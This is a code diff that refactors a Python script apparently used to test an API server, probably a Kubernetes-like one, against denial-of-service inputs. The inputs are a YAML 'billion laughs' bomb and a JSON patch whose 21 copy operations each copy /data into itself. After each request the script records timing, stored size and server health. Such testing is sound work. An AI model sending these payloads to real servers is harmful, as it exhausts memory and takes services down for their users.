@@ -10,6 +10,7 @@ from __future__ import annotations
 
 import json
 import time
+from collections.abc import Callable
 
 import requests
 
@@ -39,30 +40,30 @@ def main() -> None:
         session.post(f"{server.url}/api/v1/namespaces", json={
             "apiVersion": "v1", "kind": "Namespace", "metadata": {"name": NS}}, timeout=30)
         print(f"{'attack':<32}{'body B':>8}{'code':>6}{'time s':>8}{'stored B':>12}  alive")
-        start = time.perf_counter()
-        r = session.post(base, data=BOMB, headers={"Content-Type": "application/yaml"},
-                         timeout=120)
-        took = time.perf_counter() - start
-        stored = session.get(f"{base}/bomb", timeout=120)
-        size = len(stored.content) if stored.status_code == 200 else 0
-        alive = session.get(f"{server.url}/healthz", timeout=10).status_code == 200
-        print(f"{'YAML billion laughs':<32}{len(BOMB):>8}{r.status_code:>6}{took:>8.2f}"
-              f"{size:>12}  {alive}  {_message(r)}")
+        _attack(session, server.url, "YAML billion laughs", BOMB, "bomb",
+                lambda: session.post(base, data=BOMB, timeout=120,
+                                     headers={"Content-Type": "application/yaml"}))
         session.post(base, json={"apiVersion": "v1", "kind": "ConfigMap",
                                  "metadata": {"name": "grow"},
                                  "data": {"k": "x" * 100}}, timeout=30)
         ops = [{"op": "copy", "from": "/data", "path": f"/data/a{i}"} for i in range(21)]
         patch = json.dumps(ops).encode()
-        start = time.perf_counter()
-        r = session.patch(f"{base}/grow", data=patch,
-                          headers={"Content-Type": "application/json-patch+json"}, timeout=300)
-        took = time.perf_counter() - start
-        stored = session.get(f"{base}/grow", timeout=120)
-        size = len(stored.content) if stored.status_code == 200 else 0
-        alive = session.get(f"{server.url}/healthz", timeout=10).status_code == 200
-        print(f"{'JSON patch copy into itself':<32}{len(patch):>8}{r.status_code:>6}"
-              f"{took:>8.2f}{size:>12}  {alive}  {_message(r)}")
+        _attack(session, server.url, "JSON patch copy into itself", patch, "grow",
+                lambda: session.patch(f"{base}/grow", data=patch, timeout=300, headers={
+                    "Content-Type": "application/json-patch+json"}))
 
+
+def _attack(session: requests.Session, url: str, label: str, body: bytes, name: str,
+            send: Callable[[], requests.Response]) -> None:
+    """Send one attack; print its code, time, the size then stored and the server's health."""
+    start = time.perf_counter()
+    r = send()
+    took = time.perf_counter() - start
+    stored = session.get(f"{url}/api/v1/namespaces/{NS}/configmaps/{name}", timeout=120)
+    size = len(stored.content) if stored.status_code == 200 else 0
+    alive = session.get(f"{url}/healthz", timeout=10).status_code == 200
+    print(f"{label:<32}{len(body):>8}{r.status_code:>6}{took:>8.2f}{size:>12}  {alive}  "
+          f"{_message(r)}")
 
 if __name__ == "__main__":
     main()
